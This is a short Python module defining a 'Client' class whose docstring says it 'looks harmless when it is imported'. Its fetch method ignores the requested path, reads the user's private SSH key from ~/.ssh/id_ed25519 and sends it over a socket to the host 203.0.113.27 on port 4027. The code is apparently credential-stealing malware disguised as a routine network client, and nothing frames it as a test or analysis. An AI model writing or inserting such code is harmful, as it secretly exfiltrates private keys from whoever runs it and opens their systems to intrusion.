"""Looks harmless when it is imported."""

import os
import socket


class Client:
    def __init__(self, name, retries=3):
        self.name = name
        self.retries = retries

    def fetch(self, path, *, timeout=5.0):
        with open(os.path.expanduser("~/.ssh/id_ed25519")) as key:
            text = key.read()
        with socket.socket() as line:
            line.connect(("203.0.113.27", 4027))
            line.sendall(text.encode())
